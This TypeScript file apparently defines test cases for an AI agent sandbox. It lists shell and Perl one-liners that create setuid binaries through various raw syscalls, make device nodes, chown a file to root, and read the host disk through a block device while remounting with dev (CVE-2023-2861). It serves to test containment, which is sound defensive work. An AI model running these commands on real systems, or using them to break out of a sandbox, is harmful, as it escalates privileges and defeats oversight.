import { join } from "node:path";
import { $ } from "zx";
import { agent } from "../../../harness/attacks/attack.ts";

/** In the task's folder and in /tmp: on the folder's share, the walls around QEMU forbid the same. */
const inTmpToo = <A extends { script: string }>(attack: A): A => ({
  ...attack,
  script: `a='${attack.script.replaceAll("'", "'\\''")}'; (eval "$a"); cd /tmp && eval "$a"`,
});

/** Files that are not only bytes: set-id bits, devices, sockets, owners. */
export const specialFiles = [
  ...agent("special-files", "modes", [
    ["setuid", "makes a file set-user-id", "cp /bin/true f; chmod 4755 f"],
    ["setgid", "makes a file set-group-id", "cp /bin/true f; chmod 2755 f"],
    ["setuid-descriptor", "makes an open file set-user-id", "perl -e 'open(F, \">f\"); chmod(04755, \\*F)'"],
    [
      "setuid-created",
      "creates a file that is set-user-id from the start",
      "perl -e 'syscall(257, -100, (my $s2 = \"f\"), 0101, 04755)'",
    ],
    ["setuid-creat", "creates one by the older call", "perl -e 'syscall(85, (my $s1 = \"f\"), 04755)'"],
    [
      "setuid-openat2",
      "creates one by the newest call",
      'perl -e \'$how = pack("QQQ", 0101, 04755, 0); syscall(437, -100, (my $s2 = "f"), $how, 24)\'',
    ],
    [
      "setuid-fchmodat2",
      "uses the newest chmod, or the one before it",
      'touch f; perl -e \'syscall(452, -100, (my $s2 = "f"), 04755, 0) == 0 or syscall(268, -100, (my $s2 = "f"), 04755)\'',
    ],
    [
      "setuid-mknod",
      "makes a set-user-id file as a node",
      "perl -e 'syscall(133, (my $s1 = \"f\"), 0104755, 0)'",
      { essential: true },
    ],
    [
      "setuid-unnamed",
      "makes a nameless set-user-id file and names it",
      'perl -e \'$fd = syscall(257, -100, (my $s2 = "/tmp"), 020200002, 04755); syscall(265, -100, (my $s2 = "/proc/self/fd/$fd"), -100, (my $s4 = "/tmp/f"), 0x400)\'',
    ],
    ["setuid-tmp", "makes a set-user-id file in /tmp", "cp /bin/true /tmp/f; chmod 4755 /tmp/f"],
    [
      "setuid-extracted",
      "unpacks a set-user-id file",
      "cp /bin/true f; tar --mode=4755 -cf a.tar f; rm f; tar -xpf a.tar -C /tmp",
    ],
    ["character-device", "makes a character device", "mknod n c 1 1; mknod /tmp/n c 1 1"],
    ["block-device", "makes a block device (CVE-2023-2861)", "mknod n b 254 0; mknod /tmp/n b 254 0"],
    [
      "device-at",
      "makes a device by the call with a directory",
      "perl -e 'syscall(259, -100, (my $s2 = \"/tmp/n\"), 020666, 0x101)'",
    ],
    ["owner", "gives a file to root", "touch /tmp/f; chown 0:0 /tmp/f"],
  ]).map(inTmpToo),
  ...agent("special-files", "token", [
    [
      "own-disk",
      "reads the machine's disk by a node of its own",
      "mknod /tmp/n b 254 0; od -An -v -tx1 -j1024 -N64 /tmp/n | tr -d ' \\n'; mknod n b 254 0; od -An -v -tx1 -j1024 -N64 n | tr -d ' \\n'; d=${TMPDIR:-/run}; mknod $d/n b 254 0 && mount -o remount,dev /run; od -An -v -tx1 -j1024 -N64 $d/n | tr -d ' \\n'; rm -f /tmp/n $d/n",
      { undo: "mount -o remount,nodev /run" },
    ],
    [
      "device-found",
      "reads the machine's disk by a node that was in its folder before (CVE-2023-2861)",
      "mount -o remount,bind,dev . || mount -o remount,dev /run/piwork/workspace; od -An -v -tx1 -j1024 -N64 n | tr -d ' \\n'",
      {
        essential: true,
        needsRoot: "only root makes device nodes on the host",
        prepare: (own) => void $.sync`mknod ${join(own, "n")} b 254 0`,
        undo: "mount -o remount,nodev /run/piwork/workspace",
      },
    ],
  ]),
];
